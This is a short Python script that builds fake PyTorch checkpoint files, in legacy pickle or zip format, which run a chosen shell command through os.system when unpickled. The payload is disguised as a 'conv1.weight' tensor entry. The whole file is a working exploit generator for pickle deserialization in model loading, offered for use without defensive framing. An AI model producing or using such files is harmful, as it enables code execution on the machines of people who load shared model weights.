#!/usr/bin/env python3
"""Writes a PyTorch-like file that runs a command in whoever unpickles it: make_pth.py FILE COMMAND

With a name that ends in .legacy.pth, a bare pickle as PyTorch before 1.6 wrote; else a zip.
"""
import os
import pickle
import sys
import zipfile


class Command:
    def __reduce__(self):
        return os.system, (sys.argv[2],)


def main():
    name = sys.argv[1]
    state = pickle.dumps({"conv1.weight": Command()}, protocol=2)
    if name.endswith(".legacy.pth"):
        magic, version, machine = (pickle.dumps(v, protocol=2) for v in
                                   (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}))
        with open(name, "wb") as file:
            file.write(magic + version + machine + state + pickle.dumps([], protocol=2))
        return
    with zipfile.ZipFile(name, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", state)
        archive.writestr("archive/version", "3\n")


main()
